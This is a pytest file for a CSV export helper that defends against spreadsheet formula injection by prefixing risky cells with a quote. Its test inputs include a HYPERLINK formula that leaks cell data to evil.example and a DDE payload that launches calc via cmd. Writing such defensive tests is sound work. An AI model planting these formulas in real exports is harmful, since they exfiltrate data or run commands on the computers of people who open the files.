"""CSV for people (trees.formats.spreadsheet), OWASP's rule against formula injection:

- Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading ``'``, which spreadsheets show as text and hide.
- Anything else is left as it is: other text, numbers (a negative number is a number),
  empty cells.
- The lines are CSV as spreadsheets expect it (quoted where needed, CRLF).
"""

from __future__ import annotations

import csv
import io

import pytest

from trees.formats.spreadsheet import spreadsheet_cell, spreadsheet_lines


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", " =1+1", "a=b", "", "'=already", 0, -1.5, 2, None, True])
def test_everything_else_is_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_lines_are_csv_with_every_cell_neutralised() -> None:
    lines = list(spreadsheet_lines([["group", "value"], ["=cmd", -0.5], ['say "hi", @you', None]]))

    assert lines == ["group,value\r\n", "'=cmd,-0.5\r\n", '"say ""hi"", @you",\r\n']
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["group", "value"],
        ["'=cmd", "-0.5"],
        ['say "hi", @you', ""],
    ]
